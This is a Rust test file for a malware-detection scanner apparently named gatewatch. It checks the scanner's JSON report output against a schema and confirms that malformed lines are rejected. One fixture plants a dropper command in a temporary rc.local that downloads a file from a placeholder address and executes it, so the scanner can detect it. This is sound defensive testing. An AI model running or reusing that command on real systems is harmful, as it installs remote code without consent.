//! Holds every JSON line that the program writes to docs/report.schema.json.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::as_conversions,
    missing_docs
)]

#[path = "common/golden.rs"]
mod golden;

use std::collections::BTreeSet;
use std::fs;
use std::process::Command;

use boon::{Compiler, SchemaIndex, Schemas};
use golden::Format;
use serde_json::{Value, json};

struct Schema(Schemas, SchemaIndex);

impl Schema {
    fn open() -> Self {
        let (mut schemas, path) =
            (Schemas::new(), concat!(env!("CARGO_MANIFEST_DIR"), "/docs/report.schema.json"));
        let index = Compiler::new().compile(path, &mut schemas).unwrap_or_else(|e| panic!("{e:#}"));
        Self(schemas, index)
    }

    fn fault(&self, line: &Value) -> Option<String> {
        self.0.validate(line, self.1).err().map(|error| format!("{error:#}"))
    }

    /// Checks the lines of one run and returns their types.
    fn check(&self, name: &str, lines: &str) -> BTreeSet<String> {
        let mut types = BTreeSet::new();
        for (number, line) in (1..).zip(lines.lines()) {
            let value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{name}:{number}: {e}: {line}"));
            if let Some(fault) = self.fault(&value) {
                panic!("{name}:{number}: {fault}: {line}");
            }
            types.insert(value["type"].as_str().unwrap().to_owned());
        }
        types
    }
}

#[test]
fn golden_lines_are_as_the_schema_says() {
    let (schema, mut types) = (Schema::open(), BTreeSet::new());
    for name in golden::names().0 {
        let path = golden::golden(&name, Format::Json);
        types.extend(schema.check(&path.display().to_string(), &fs::read_to_string(&path).unwrap()));
    }
    assert_eq!(types, ["check", "finding", "incident", "summary"].map(str::to_owned).into());
}

#[test]
fn a_live_scan_is_as_the_schema_says() {
    let mut program = Command::new(env!("CARGO_BIN_EXE_gatewatch"));
    let output = program.args(["scan", "--format", "json", "-v"]).output().unwrap();
    let types = Schema::open().check("live", &String::from_utf8(output.stdout).unwrap());
    assert!(types.contains("check") && types.contains("summary"), "{types:?}");
}

/// A machine's state, a test of the way that reports take, and what is allowed.
#[test]
fn what_doctor_and_selftest_say_is_as_the_schema_says() {
    let schema = Schema::open();
    let tree = tempfile::tempdir().unwrap();
    fs::create_dir(tree.path().join("etc")).unwrap();
    fs::write(tree.path().join("etc/rc.local"), "cd /tmp; wget http://203.0.113.1/x; chmod +x x; ./x\n")
        .unwrap();
    let root = tree.path().to_str().unwrap();
    let allow = "startup-dropper /etc/rc.local never a \"reason\"";
    for (arguments, expected) in [
        (vec!["doctor", "--only", "exe-volatile"], &["diagnosis"][..]),
        (vec!["selftest"], &["diagnosis", "finding", "summary"]),
        (
            vec!["-v", "--only", "startup-dropper", "--allow", allow, "--root", root],
            &["allowed", "check", "summary"],
        ),
    ] {
        let mut program = Command::new(env!("CARGO_BIN_EXE_gatewatch"));
        let output = program.args(&arguments).args(["--format", "json", "--no-config"]).output().unwrap();
        let types = schema.check(arguments[0], &String::from_utf8(output.stdout).unwrap());
        assert_eq!(types, expected.iter().map(|word| (*word).to_owned()).collect(), "{arguments:?}");
    }
}

/// A run that ended early, one in which more was found than is joined, and fields that may be absent.
#[test]
fn rare_lines_are_allowed() {
    let schema = Schema::open();
    for line in [
        json!({"v": 1, "type": "incident", "severity": "infected", "family": "examplebot",
            "findings": ["exe-deleted", "c2-address"], "story": "x"}),
        json!({"v": 1, "type": "finding", "check": "c2-client", "severity": "suspicious", "attack": "T1071",
            "client": "0f3a", "remote": "[2001:db8::1]:443"}),
        json!({"v": 1, "type": "finding", "check": "c2-client", "severity": "suspicious", "attack": "T1071",
            "state": "gone", "first_seen": 1_795_000_000, "last_seen": 1_795_086_400}),
        json!({"v": 1, "type": "summary", "verdict": "suspicious", "infected": 0, "suspicious": 900, "notice": 0,
            "checks": 6, "blind": 6, "processes": 0, "sockets": 0, "flows": 0, "files": 0, "device": "router-1.lan",
            "version": "0.1.0", "elapsed_us": 60_000_000, "held_back": 840}),
        json!({"v": 1, "type": "summary", "verdict": "incomplete", "infected": 0, "suspicious": 0, "notice": 0,
            "checks": 6, "blind": 6, "processes": 0, "sockets": 0, "flows": 0, "files": 0, "device": "router-1.lan",
            "version": "0.1.0", "elapsed_us": 60_000_000, "why": "time ran out", "incidents": 0, "unjoined": 5}),
        json!({"v": 1, "type": "summary", "verdict": "suspicious", "infected": 0, "suspicious": 2, "notice": 0,
            "incidents": 1, "hidden": 2, "checks": 6, "blind": 0, "processes": 0, "sockets": 0, "flows": 0, "files": 0,
            "device": "-", "version": "0.1.0", "elapsed_us": 5120}),
    ] {
        assert_eq!(schema.fault(&line), None, "{line}");
    }
}

/// Every line of a golden file with one thing broken, so that the other tests can fail.
#[test]
fn broken_lines_are_refused() {
    let schema = Schema::open();
    let mut tried = 0;
    for name in golden::names().0 {
        for line in fs::read_to_string(golden::golden(&name, Format::Json)).unwrap().lines() {
            let line: Value = serde_json::from_str(line).unwrap();
            let keys: Vec<&String> = line.as_object().unwrap().keys().collect();
            let mut broken = vec![with(&line, "other", json!(1)), with(&line, "v", json!(2))];
            broken.push(with(&line, "type", json!("finding ")));
            // No field may be of another type, or negative, or empty, or hold a control character.
            for (key, wrong) in keys.iter().flat_map(|key| {
                [json!(null), json!(-1), json!(1.5), json!(""), json!("a\nb")].map(|wrong| (key, wrong))
            }) {
                broken.push(with(&line, key, wrong));
            }
            let required =
                ["v", "type", "check", "severity", "verdict", "looked", "facts", "device", "elapsed_us"];
            for key in keys.iter().filter(|key| required.contains(&key.as_str())) {
                let mut less = line.clone();
                less.as_object_mut().unwrap().remove(*key);
                broken.push(less);
            }
            for line in broken {
                assert!(schema.fault(&line).is_some(), "the schema allows {line}");
                tried += 1;
            }
        }
    }
    assert!(tried > 1000, "only {tried} broken lines");
}

fn with(line: &Value, key: &str, value: Value) -> Value {
    let mut line = line.clone();
    line[key] = value;
    line
}
